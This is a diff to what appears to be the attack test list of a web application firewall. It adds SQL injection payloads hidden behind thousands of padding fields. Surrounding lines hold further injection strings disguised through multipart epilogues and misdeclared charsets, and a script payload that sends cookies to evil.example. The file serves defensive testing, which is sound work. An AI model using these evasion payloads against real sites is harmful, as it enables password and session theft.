@@ -151,6 +151,9 @@ ATTACKS = [
                  '--b\r\nContent-Disposition: form-data; name="t"\r\n\r\nhi\r\n--b--\r\n--a\r\nContent-Disposition: form-data; name="q"\r\n\r\n1\' union select password from users--\r\n--a--\r\n')),  # parts in the epilogue
     ("sqli", raw("POST", "/api/search", [("Content-Type", "application/x-www-form-urlencoded; charset=utf-16")], "q=1'+union+select+password+from+users--")),  # ASCII declared UTF-16
     ("protocol", raw("POST", "/api/search", [("Content-Type", "application/json"), ("Content-Encoding", "br")], b"\x1b\x2f\x00\xf8noise")),  # a coding the engine cannot read
+    # a field after 4,096 padding fields (engine.fields.REST): read, not dropped
+    ("sqli", raw("POST", "/api/import", [("Content-Type", "application/json")], json.dumps({"pad": [1] * 4100, "q": "1' union select password from users--"}))),
+    ("sqli", raw("POST", "/search", [("Content-Type", "application/x-www-form-urlencoded")], "&".join(["a=1"] * 4100) + "&q=1'+union+select+password+from+users--")),
     # the same, large (> 64 KiB: one unit, read by rules.targets._large_body) with a zero byte put in to look the part
     ("xss", raw("POST", "/api/comments", [("Content-Type", "application/x-www-form-urlencoded; charset=utf-16")],
                 b"comment=<script>document.location='//evil.example/?c='+document.cookie</script>&pad=\x00" + b"a" * 70_000)),
